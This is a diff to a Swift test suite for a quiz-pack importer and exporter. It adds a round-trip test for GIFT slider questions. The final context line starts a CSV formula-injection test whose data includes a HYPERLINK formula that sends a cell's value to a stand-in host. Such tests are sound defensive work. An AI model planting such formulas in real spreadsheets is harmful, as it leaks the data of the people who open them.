@@ -96,6 +96,41 @@ struct RoundTripTests {
         #expect(try Self.roundTrip(packs, as: format, named: base) == packs)
     }
 
+    @Test("a slider is a number on a scale of no credit in GIFT, and an import makes it a slider again")
+    func slider() throws {
+        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("slider-\(UUID())")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        defer { try? FileManager.default.removeItem(at: folder) }
+        let file = folder.appendingPathComponent("estimates.gift")
+        try #"""
+        Apollo 11 landed in what year? {#=1969:2 =%0%1900..2000}
+
+        Pi to two places? {#=3.14:0.01 =%0%0..10}
+
+        A scale that misses its answer is a number typed. {#=50 =%0%0..10}
+        """#.write(to: file, atomically: true, encoding: .utf8)
+        let packs = try Self.importing(file.path)
+        guard case .mixed(let items) = packs.first?.items, items.count == 3 else {
+            Issue.record("expected a mixed pack of three items")
+            return
+        }
+        #expect(
+            items[0].content
+                == .slider(
+                    SliderItem(
+                        id: 1, question: "Apollo 11 landed in what year?", low: 1900, high: 2000, answer: 1969,
+                        tolerance: 2)))
+        #expect(
+            items[1].content
+                == .slider(
+                    SliderItem(
+                        id: 2, question: "Pi to two places?", low: 0, high: 10, step: 0.01, answer: 3.14,
+                        tolerance: 0.01)))
+        #expect(items[2].kind == .quiz)
+        #expect(PackExporter.gift(packs[0]).contains("Apollo 11 landed in what year? {# =1969:2 =%0%1900..2000}"))
+        #expect(try Self.roundTrip(packs, as: .gift, named: "estimates") == packs)
+    }
+
     @Test("a CSV export writes texts that start as formulas as text, and imports them back as they were")
     func formulasInCSV() throws {
         let texts = [#"=HYPERLINK("http://x.test/?"&A1,"Pulsa")"#, "+1+2", "@SUM(1)", "-3 grados"]
